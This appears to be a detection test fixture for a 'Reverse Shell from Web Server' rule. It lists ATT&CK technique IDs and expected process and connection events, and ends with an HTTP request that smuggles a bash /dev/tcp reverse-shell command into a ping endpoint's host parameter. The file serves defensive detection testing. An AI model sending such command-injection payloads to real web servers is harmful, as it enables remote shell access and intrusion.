# title: a web application is made to hand a shell to the network
# attack: T1190 T1059.004 T1095
# rule: Reverse Shell from Web Server
# workload: webapp
# through: http
# shows: process bash, parent sh, below python3
# shows: connect tcp/8000 to 127.0.0.1 by bash
# shows: privilege redirect by bash
GET http://127.0.0.1:8000/ping?host=x;bash%20-c%20'exec%200%3C%3E/dev/tcp/127.0.0.1/8000'
